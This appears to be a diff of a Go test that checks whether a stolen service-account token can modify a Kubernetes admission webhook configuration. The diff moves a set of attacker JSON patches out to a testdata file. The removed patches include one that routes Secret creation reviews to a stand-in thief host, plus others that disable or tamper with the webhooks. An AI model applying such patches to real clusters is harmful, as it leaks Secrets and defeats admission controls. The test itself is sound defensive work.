@@ -74,33 +74,12 @@ func system(namespace, account string) string {
 	return "system:serviceaccount:" + namespace + ":" + account
 }
 
-// thefts are JSON patches of a webhook configuration that a thief of Pillion's token could
-// want. They are valid for both kinds.
-var thefts = map[string]string{
-	"an entry for Secrets that calls a server of the thief": `[{"op":"add","path":"/webhooks/-","value":{"name":"x.thief.example.com","clientConfig":{"url":"https://thief.example.com/"},` +
-		`"rules":[{"apiGroups":[""],"apiVersions":["v1"],"operations":["CREATE"],"resources":["secrets"]}],"sideEffects":"None","admissionReviewVersions":["v1"]}}]`,
-	"another server":                         `[{"op":"replace","path":"/webhooks/0/clientConfig","value":{"url":"https://thief.example.com/"}}]`,
-	"another Service":                        `[{"op":"replace","path":"/webhooks/0/clientConfig/service/name","value":"thief"}]`,
-	"another path":                           `[{"op":"replace","path":"/webhooks/0/clientConfig/service/path","value":"/thief"}]`,
-	"reviews of Secrets":                     `[{"op":"replace","path":"/webhooks/0/rules","value":[{"apiGroups":[""],"apiVersions":["v1"],"operations":["CREATE"],"resources":["secrets"],"scope":"Namespaced"}]}]`,
-	"a failurePolicy":                        `[{"op":"replace","path":"/webhooks/0/failurePolicy","value":"Fail"},{"op":"replace","path":"/webhooks/1/failurePolicy","value":"Ignore"}]`,
-	"a matchPolicy":                          `[{"op":"replace","path":"/webhooks/0/matchPolicy","value":"Exact"}]`,
-	"every namespace":                        `[{"op":"replace","path":"/webhooks/1/namespaceSelector","value":{}}]`,
-	"no pod":                                 `[{"op":"replace","path":"/webhooks/0/objectSelector","value":{"matchLabels":{"a":"b"}}}]`,
-	"another timeout":                        `[{"op":"replace","path":"/webhooks/0/timeoutSeconds","value":30}]`,
-	"a condition":                            `[{"op":"add","path":"/webhooks/0/matchConditions","value":[{"name":"never","expression":"false"}]}]`,
-	"other side effects":                     `[{"op":"replace","path":"/webhooks/1/sideEffects","value":"None"},{"op":"replace","path":"/webhooks/0/sideEffects","value":"NoneOnDryRun"}]`,
-	"other versions":                         `[{"op":"replace","path":"/webhooks/0/admissionReviewVersions","value":["v1"]}]`,
-	"another name":                           `[{"op":"replace","path":"/webhooks/0/name","value":"x.thief.example.com"}]`,
-	"an entry less":                          `[{"op":"remove","path":"/webhooks/1"}]`,
-	"no entry":                               `[{"op":"replace","path":"/webhooks","value":[]}]`,
-	"a label":                                `[{"op":"add","path":"/metadata/labels/x","value":"y"}]`,
-	"an annotation":                          `[{"op":"add","path":"/metadata/annotations","value":{"cert-manager.io/inject-ca-from-secret":"a/b"}}]`,
-	"no owners of fields":                    `[{"op":"replace","path":"/metadata/managedFields","value":[{}]}]`,
-	"an owner of fields less":                `[{"op":"remove","path":"/metadata/managedFields/0"}]`,
-	"an owner of fields more":                `[{"op":"add","path":"/metadata/managedFields/-","value":{"manager":"x","operation":"Apply","apiVersion":"admissionregistration.k8s.io/v1","fieldsType":"FieldsV1","fieldsV1":{"f:metadata":{"f:labels":{"f:helm.sh/chart":{}}}}}}]`,
-	"a finalizer":                            `[{"op":"add","path":"/metadata/finalizers","value":["thief.example.com/never"]}]`,
-	"an owner, by deletion of which it goes": `[{"op":"add","path":"/metadata/ownerReferences","value":[{"apiVersion":"v1","kind":"Namespace","name":"x","uid":"y"}]}]`,
+// thefts are the patches of testdata/thefts.yaml of one kind of object.
+func thefts(t *testing.T, of string) map[string]string {
+	t.Helper()
+	var all map[string]map[string]string
+	fromYAML(t, "testdata/thefts.yaml", &all)
+	return all[of]
 }
 
 // steal tries patches of both configurations by dry run, and returns the error of each.
@@ -125,12 +104,12 @@ func TestAStolenTokenCanChangeNothingOfAWebhookConfigurationButTheCABundle(t *te
 	t.Parallel()
 	account := system(ground.Namespace, "pillion")
 	reinvocation := map[string]string{"reinvocation": `[{"op":"replace","path":"/webhooks/0/reinvocationPolicy","value":"Never"}]`}
-	for what, err := range steal(t, "", configuration, thefts) {
+	for what, err := range steal(t, "", configuration, thefts(t, "configurations")) {
 		if err != nil {
 			t.Errorf("an admin: %s: %v; this patch shows nothing", what, err)
 		}
 	}
-	all := steal(t, account, configuration, thefts)
+	all := steal(t, account, configuration, thefts(t, "configurations"))
 	maps.Copy(all, steal(t, account, configuration, reinvocation))
 	delete(all, "validating: reinvocation") // it has no such field
 	for what, err := range all {
